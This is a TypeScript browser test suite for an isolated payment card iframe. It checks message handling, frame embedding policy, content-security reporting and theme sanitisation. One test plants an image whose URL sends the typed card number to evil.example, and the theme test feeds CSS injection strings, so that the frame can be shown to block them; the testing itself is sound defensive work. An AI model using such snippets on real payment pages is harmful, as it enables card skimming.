import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Seeded } from '../../payment-fields/seeded.js';
import { spoil } from '../../payment-fields/hostile.js';
import { write } from '../../../src/payment-fields/frame/messages.js';
import type { Typeface } from '../../../src/payment-fields/port.js';
import { launch } from '../support.js';
import { CardPage, cardStage, type CardStage } from './stage.js';

let browser: Browser;
let stage: CardStage;

beforeAll(async () => {
  browser = await launch();
  stage = await cardStage();
});
afterAll(async () => {
  await browser.close();
  await stage.close();
});

/** Hostile texts for a real browser; the many are tried without one. */
function hostileTexts(count: number): string[] {
  const by = new Seeded(21);
  const nonce = 'abcdefghijklmnopqrstuvwxyz';
  const innocent = [
    write(nonce, { type: 'hello' }),
    write(nonce, { type: 'connect' }),
    write(nonce, { type: 'tokenize', id: 1 }),
    write(nonce, { type: 'height', height: 9 }),
  ].map((text) => JSON.parse(text) as Record<string, unknown>);
  return Array.from({ length: count }, () => {
    const spoiled = spoil(
      by.of(innocent as [Record<string, unknown>, ...Record<string, unknown>[]]),
      by,
    );
    return typeof spoiled === 'string'
      ? spoiled.slice(0, 10_000)
      : String(JSON.stringify(innocent[0]));
  });
}

describe('the line between a page and the card frame (T21)', () => {
  it('is not taken over by any window of the page, before or after the handshake', async () => {
    const card = await CardPage.open(browser, stage);
    await card.page.evaluate(async (texts) => {
      // A sibling frame of the page's own origin, and one inside it.
      const sibling = document.createElement('iframe');
      document.body.append(sibling);
      const inner = sibling.contentDocument?.createElement('iframe');
      if (inner) sibling.contentDocument?.body.append(inner);
      const windows = [window, sibling.contentWindow, inner?.contentWindow];
      const attack = () => {
        const frame = document.querySelector<HTMLIFrameElement>('#container iframe')?.contentWindow;
        texts.forEach((text, at) => {
          const from = windows[at % windows.length];
          // Said by another window, to the page and to the frame.
          const say = (target: Window | null | undefined) => {
            const { port2 } = new MessageChannel();
            (from as (Window & typeof globalThis) | undefined)?.Reflect.apply(
              window.postMessage,
              target,
              [text, '*', [port2]],
            );
          };
          say(window);
          if (frame) say(frame);
        });
      };
      attack();
      setTimeout(attack, 0);
      await new Promise((resolve) => setTimeout(resolve, 0));
    }, hostileTexts(300));
    await card.mount(stage, {});
    await card.fillCard('4111111111111111');
    expect(await card.tokenize()).toMatchObject({ state: 'token' });
    expect(card.complaints).toEqual([]);
    await card.close();
  });

  it('does not come about with a page that is not on the list: its frame stays blank, and that is reported (T22)', async () => {
    const server = createServer((_, response) => {
      response.writeHead(200, { 'Content-Type': 'text/html' });
      response.end(`<iframe src="${stage.vault}/frame?parent=${stage.host}"></iframe>`);
    });
    await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
    const context = await browser.newContext();
    const page = await context.newPage();
    const failed: string[] = [];
    page.on('requestfailed', (request) => failed.push(request.failure()?.errorText ?? ''));
    const stranger = `http://localhost:${(server.address() as AddressInfo).port}`;
    await page.goto(`${stranger}/shop?basket=1`);
    await expect.poll(() => failed).toEqual(['net::ERR_BLOCKED_BY_RESPONSE']);
    expect(await page.frames()[1]?.locator('input').count()).toBe(0);
    // Chromium tells no path of a frame that it did not load, and names its own address as what was stopped.
    await expect
      .poll(() => stage.violations)
      .toEqual([
        {
          directive: 'frame-ancestors',
          document: '/',
          blocked: stage.vault,
          disposition: 'enforce',
          embedder: stranger,
        },
      ]);
    await context.close();
    server.closeAllConnections();
    server.close();
  });

  it('is not all that the policy of the frame guards: what it stops inside is reported too (T22, T22b)', async () => {
    const before = stage.violations.length;
    const card = await CardPage.with(browser, stage);
    await card.field('Card number').fill('4111111111111111');
    await card.page.frames()[1]?.evaluate(() => {
      const image = document.createElement('img');
      image.src = `https://evil.example/?n=${document.querySelector('input')?.value ?? ''}`;
      document.body.append(image);
    });
    await expect
      .poll(() => stage.violations.slice(before))
      .toEqual([
        {
          directive: 'img-src',
          document: '/frame',
          blocked: 'https://evil.example',
          disposition: 'enforce',
        },
      ]);
    await card.close();
  });

  it('does not throw where there is no frame to be had: the answer is "unavailable"', async () => {
    const card = await CardPage.open(browser, stage);
    await card.page.evaluate(
      (url) => window.stage.mount({ url, answerMs: 300 }),
      `${stage.vault}/nowhere`,
    );
    expect(await card.tokenize()).toEqual({ state: 'unavailable' });
    expect((await card.state())?.ready).toBe(false);
    await card.close();
  });

  it('cannot be made on an origin where the page could read what is typed', async () => {
    const card = await CardPage.open(browser, stage);
    const message = await card.page.evaluate((url) => {
      try {
        window.stage.mount({ url });
        return 'mounted';
      } catch (thrown) {
        return String(thrown);
      }
    }, stage.host);
    expect(message).toContain('TypeError: The card frame needs an origin of its own');
    await card.close();
  });

  it('is made anew when the frame loads again, with nothing of what was typed', async () => {
    const card = await CardPage.with(browser, stage);
    await card.fillCard('4111111111111111');
    await card.page.evaluate(() => {
      const frame = document.querySelector<HTMLIFrameElement>('#container iframe');
      if (frame) frame.src = frame.src;
    });
    await card.page.waitForFunction(
      () => window.stage.states.filter(({ ready }) => !ready).length === 2,
    );
    await card.page.waitForFunction(() => window.stage.states.at(-1)?.ready);
    expect(await card.tokenize()).toMatchObject({ state: 'invalid' });
    await card.close();
  });

  it('leaves nothing behind: no frame, no listener, no answer that is never given (T56)', async () => {
    const card = await CardPage.open(browser, stage);
    await card.page.evaluate(() => {
      const { addEventListener, removeEventListener } = window;
      const listeners = new Set<unknown>();
      window.addEventListener = (...args: unknown[]) => {
        if (args[0] === 'message') listeners.add(args[1]);
        Reflect.apply(addEventListener, window, args);
      };
      window.removeEventListener = (...args: unknown[]) => {
        listeners.delete(args[1]);
        Reflect.apply(removeEventListener, window, args);
      };
      Object.assign(window, { listeners });
    });
    await card.mount(stage, {});
    await card.fillCard('4000000000003220');
    await card.start();
    await card.fields.frameLocator('iframe').getByRole('button', { name: 'Approve' }).waitFor();
    await card.page.evaluate(() => window.stage.mounted?.destroy());
    expect(await card.outcome()).toEqual({ state: 'unavailable' });
    const left = await card.page.evaluate(() => [
      document.querySelector('#container')?.childNodes.length,
      (window as unknown as { listeners: Set<unknown> }).listeners.size,
    ]);
    expect(left).toEqual([0, 0]);
    expect(card.page.frames()).toHaveLength(1);
    await card.close();
  });
});

describe('the theme of the card frame (T24)', () => {
  it('whatever a page asks for, colours stay colours, lengths stay in bounds, nothing is fetched', async () => {
    const card = await CardPage.with(browser, stage);
    const requests: string[] = [];
    card.page.on('request', (request) => requests.push(request.url()));
    const by = new Seeded(24);
    const texts = [
      'url(https://evil.example/a)',
      'red;background:url(https://evil.example/b)',
      'image-set("https://evil.example/c" 1x)',
      'var(--uss-accent)',
      '}*{display:none}',
      'rgb(255 0 0)',
      '#00ff00',
      'rebeccapurple',
      'notacolour',
      'rgb(1 2)',
      '\u0000',
      'inherit',
    ] as const;
    for (let round = 0; round < 100; round++) {
      const colour = () => by.of(texts);
      const theme = {
        scheme: by.of(['light', 'dark'] as const),
        accent: colour(),
        text: colour(),
        muted: colour(),
        surface: colour(),
        border: colour(),
        danger: colour(),
        radius: by.of([-5, 0, 8, 500, Number.NaN]),
        fontSize: by.of([0, 16, 999, Infinity]),
        typeface: by.of([
          'serif',
          'mono',
          'url(//evil.example)',
          'serif;x:url(//evil)',
        ]) as Typeface,
      };
      await card.page.evaluate((wanted) => window.stage.mounted?.setTheme(wanted), theme);
      const looks = await card.page.frames()[1]?.evaluate(() => {
        const root = getComputedStyle(document.documentElement);
        const box = getComputedStyle(document.querySelector('.control') ?? document.body);
        return [
          root.fontSize,
          box.borderTopLeftRadius,
          root.backgroundImage,
          box.display,
          document.documentElement.style.cssText,
        ].join(' | ');
      });
      const [fontSize = '', radius = '', picture, display, style = ''] = looks?.split(' | ') ?? [];
      expect(Number.parseFloat(fontSize)).toBeGreaterThanOrEqual(12);
      expect(Number.parseFloat(fontSize)).toBeLessThanOrEqual(24);
      expect(Number.parseFloat(radius)).toBeLessThanOrEqual(24);
      expect([picture, display]).toEqual(['none', 'block']);
      expect(style).not.toMatch(/url|evil|notacolour|var\(/);
    }
    expect(requests).toEqual([]);
    await card.close();
  });
});
